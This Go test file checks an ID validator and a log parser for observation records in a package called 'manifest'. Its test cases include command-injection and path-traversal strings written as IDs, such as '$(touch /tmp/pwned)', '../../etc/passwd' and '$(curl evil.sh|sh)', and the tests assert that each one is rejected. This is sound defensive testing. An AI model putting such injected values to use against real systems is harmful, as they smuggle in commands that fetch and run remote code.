package manifest

import (
	"strings"
	"testing"
)

func TestValidID(t *testing.T) {
	for _, tc := range []struct {
		id   string
		want bool
	}{
		{"obs_abc123", true},
		{"obs_a", true},
		{"obs_use-sqlite.v2_b", true},
		{"obs_" + strings.Repeat("x", MaxIDLen-4), true},
		{"obs_" + strings.Repeat("x", MaxIDLen-3), false},
		{"obs_", false},
		{"", false},
		{"OBS_abc", false},
		{"task_1", false},
		{"obs_$(touch /tmp/pwned)", false},
		{"obs_`id`", false},
		{"obs_a;rm", false},
		{"obs_../../etc/passwd", false},
		{"obs_a/b", false},
		{"obs_a b", false},
		{"obs_a\nb", false},
		{"obs_a\x1b[31m", false},
		{"obs_a\u202eb", false},
		{"obs_a\u200bb", false},
		{"obs_café", false},
		{"obs_a:b", false},
		{"obs_a#b", false},
	} {
		if got := ValidID(tc.id); got != tc.want {
			t.Errorf("ValidID(%q) = %v, want %v", tc.id, got, tc.want)
		}
	}
}

// An unsafe id makes the line invalid: kept byte for byte, counted, never
// one of the observations anything is done with.
func TestLogUnsafeIDKeptAndCounted(t *testing.T) {
	bad := `{"id":"obs_$(curl evil.sh|sh)","type":"decision","pattern":"Use SQLite","status":"ready","observations":3,"confidence":0.9,"evidence":[]}`
	good := `{"id":"obs_ok","type":"decision","pattern":"Use SQLite","status":"ready","observations":3,"confidence":0.9,"evidence":[]}`
	in := bad + "\n" + good + "\n"
	l := ParseLog([]byte(in))
	if l.InvalidCount() != 1 {
		t.Fatalf("invalid = %d, want 1", l.InvalidCount())
	}
	if obs := l.Observations(); len(obs) != 1 || obs[0].ID != "obs_ok" {
		t.Fatalf("observations = %v", obs)
	}
	if l.Find("obs_$(curl evil.sh|sh)") != nil {
		t.Fatal("an unsafe id is found")
	}
	l.Find("obs_ok").Observations++
	out, err := l.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(string(out), bad+"\n") {
		t.Fatalf("invalid line not kept verbatim:\n%s", out)
	}
	if msg := l.Lines[0].Invalid().Error(); strings.ContainsAny(msg, "\x1b") || !strings.Contains(msg, "not a safe id") {
		t.Fatalf("message %q", msg)
	}
}

func FuzzValidID(f *testing.F) {
	for _, s := range []string{"obs_a", "obs_", "obs_$(x)", "obs_a.b-c_d", "obs_\u202e", "obs_" + strings.Repeat("a", 200)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, id string) {
		if !ValidID(id) {
			o := &Observation{ID: id, Type: Decision, Pattern: "p"}
			if o.Validate() == nil {
				t.Fatalf("Validate accepts unsafe id %q", id)
			}
			return
		}
		if len(id) > MaxIDLen || !strings.HasPrefix(id, IDPrefix) {
			t.Fatalf("accepted %q", id)
		}
		for _, r := range id {
			if !strings.ContainsRune("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.-", r) {
				t.Fatalf("accepted %q with %q", id, r)
			}
		}
		if strings.Contains(id[len(IDPrefix):], "/") {
			t.Fatalf("path separator in %q", id)
		}
	})
}
